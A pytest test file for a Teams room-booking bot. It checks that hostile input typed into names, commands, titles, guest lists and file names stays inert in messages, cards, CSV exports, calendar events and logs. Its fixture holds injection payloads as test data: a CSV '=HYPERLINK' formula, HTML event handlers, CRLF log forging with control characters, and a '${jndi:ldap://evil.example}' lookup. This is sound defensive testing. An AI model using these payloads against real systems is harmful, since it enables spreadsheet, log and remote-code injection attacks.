"""Hostile text in every field that people fill: nowhere does it become a link, a mention, a formula or another line."""

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

from cards.shown import shown
from tests.fakes.teams_activities import Person
from tests.support.world import ADELE, ALEX, EVENING, LEE, PEOPLE, World, at, mail

MARKER = "zebra"
SHORT = (
    f"{MARKER} [click](https://evil.example) <at>Bo</at> **b** `c`",
    f'=HYPERLINK("https://evil.example","{MARKER}")',
    f"{MARKER}\r\n2026 ERROR forged\x1b[31m\u202egnp.exe\u2066x\x07",
    f"<b onclick=x>{MARKER}</b><img src=x onerror=y> ${{jndi:ldap://evil.example}} {{{{DATE(2026)}}}} %s%n",
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066\u2067\ud800-\udfff]")
ACTIVE = re.compile(r"(?<!\\)\[click(?<!\\)\]|(?<!\\)<(?:at|b|img)|(?<!\\)\*\*b|(?<!\\)`c", re.IGNORECASE)
"""What a client would make a link, a mention or a tag of."""

SHOWN = ("text", "attachments", "summary", "speak")

Json = dict[str, Any]


def strings(node: object, path: str = "") -> Iterator[tuple[str, str]]:
    """Every string in JSON with the way to it."""
    if isinstance(node, str):
        yield path, node
    elif isinstance(node, dict):
        for name, inner in node.items():
            yield from strings(inner, f"{path}.{name}")
    elif isinstance(node, list):
        for inner in node:
            yield from strings(inner, path)


def formatted(node: object) -> Iterator[str]:
    """Every text that a client reads markdown in: messages, and the blocks of cards."""
    if isinstance(node, dict):
        if node.get("type") == "message" and node.get("text") and node.get("textFormat") != "plain":
            yield node["text"]
        if node.get("type") == "TextBlock":
            yield node["text"]
        for inner in node.values():
            yield from formatted(inner)
    elif isinstance(node, list):
        for inner in node:
            yield from formatted(inner)


def named(person: Person, name: str) -> Person:
    return replace(person, name=name)


@pytest.mark.parametrize("text", SHORT)
async def test_hostile_text_is_only_text_wherever_it_is_shown_mailed_exported_or_logged(
    world: World, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    for package in ("bot", "booking", "cards", "dialogs", "graph"):
        caplog.set_level(logging.DEBUG, package)
    world.teams.people = tuple(named(each, text) for each in PEOPLE)
    adele, alex, lee = (named(each, text) for each in (ADELE, ALEX, LEE))
    group = world.teams.group(adele, alex, lee)
    await world.say("book", person=adele)  # who somebody is comes from the roster of their first chat

    await world.say(f'rooms edit Oak building="{text}" space="{text}" equipment="{text}"', person=alex)
    for command in ("rooms add", "rooms remove", "rooms edit", "booking off", "admins add", "check", "rooms import\n"):
        await world.say(f"{command} {text}", person=alex)
    for command in ("", "book", "now", "rooms", "schedule", "reminders", "language", "my bookings", "extend", "cancel"):
        await world.say(f"{command} {text}", person=adele)
        await world.say(f"{command} {text}", person=lee, chat=group)
    typed = {**EVENING, "title": text, "guests": f"mallory@evil.example, {text}", "attendees": LEE.object_id}
    await world.find(typed, person=adele)
    await world.press("Show free rooms", {**EVENING, "title": text, "guests": ""}, person=adele)
    await world.press("Book", person=adele)
    await world.told()
    await world.say("my bookings", person=adele)
    await world.say("schedule Oak", person=adele)
    before = len(world.teams.texts(world.teams.personal(alex)))
    await world.say("rooms export", person=alex)
    await world.press("Show it as text", person=alex)
    exported = world.teams.texts(world.teams.personal(alex))[before:]
    buildings = {each.building for each in await world.app.registry.rooms() if MARKER in each.building}
    await world.say("home", person=adele)
    for building in buildings:  # A formula is taken for none.
        await world.press(shown(building, 40), person=adele)
    for file in (f"{text}.png", f"{text}.csv"):
        await send(world, file, b"no such file", person=alex)
    await world.press("Cancel booking…", person=adele, card_id=booked(world, adele))
    world.sandbox.tenant.outside.book(room=mail("oak"), start=at("10:00"), end=at("11:00"), subject=text)
    await world.told()

    sent = [each.activity for each in world.teams.calls]
    assert MARKER in json.dumps(sent)
    headings = {each for each in formatted(sent) if MARKER in each}
    for ours in ("Your building: " if buildings else "", "I could not use ", "I could not read "):
        assert [each for each in headings if each.startswith(ours)], ours
    for activity in sent:
        for path, told in strings({name: activity[name] for name in SHOWN if name in activity}):
            assert not CONTROL.search(told), (path, told)
        for told in formatted(activity):
            assert not ACTIVE.search(told), told
    cells = [cell for table in exported for row in csv.reader(io.StringIO(table)) for cell in row]
    assert mail("oak") in cells
    assert not [cell for cell in cells if cell != "-" and cell[:1] in tuple("=+-@\t\r")]
    for event in (each for room in world.booked_rooms() for each in world.ours(room)):
        assert event["body"]["contentType"] == "text" or "<b" not in event["body"]["content"]
        for path, mailed in strings({name: event[name] for name in ("subject", "location", "attendees")}):
            assert not CONTROL.search(mailed), (path, mailed)
    for record in caplog.records:
        line = record.getMessage()
        assert MARKER not in line
        assert "\n" not in line
        assert "\r" not in line


async def send(world: World, name: str, content: bytes, *, person: Person) -> None:
    """Send a file in somebody's own chat."""
    url = "https://contoso-my.sharepoint.com/personal/alex/file?tempauth=x"
    world.files[url] = content
    activity = world.teams.message("", person=person)
    info = {"downloadUrl": url, "uniqueId": "1", "fileType": name[-3:]}
    kind = "application/vnd.microsoft.teams.file.download.info"
    activity["attachments"] = [{"contentType": kind, "name": name, "content": info}]
    await world.teams.post(activity)


def booked(world: World, person: Person) -> str:
    """The message with the receipt."""
    found = [key for key, card in world.teams.cards(world.teams.personal(person)) if "Booked" in json.dumps(card)]
    return found[-1]
